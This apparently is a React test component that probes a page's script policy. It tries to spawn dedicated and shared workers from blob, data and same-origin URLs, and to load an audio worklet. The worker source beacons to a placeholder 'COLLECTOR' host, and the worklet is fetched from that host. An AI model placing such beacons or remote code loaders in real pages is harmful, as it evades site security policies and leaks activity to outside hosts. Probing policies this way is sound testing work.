import { useEffect, useState } from "react";

export default function Workers() {
  const [alive, setAlive] = useState<string[]>([]);
  useEffect(() => {
    const source = "postMessage('alive'); fetch('http://COLLECTOR/worker')";
    const blob = URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
    for (const address of [blob, `data:text/javascript,${source}`, "/worker.js"]) {
      for (const kind of ["Worker", "SharedWorker"]) {
        try {
          const worker = new (window as any)[kind](address);
          (worker.port ?? worker).onmessage = () => setAlive((all) => [...all, kind]);
        } catch {
          // Refused.
        }
      }
    }
    try {
      new AudioContext().audioWorklet.addModule("http://COLLECTOR/worklet.js").catch(() => {});
    } catch {
      // Refused.
    }
  }, []);
  return <p>Alive: {alive.join() || "none"}</p>;
}
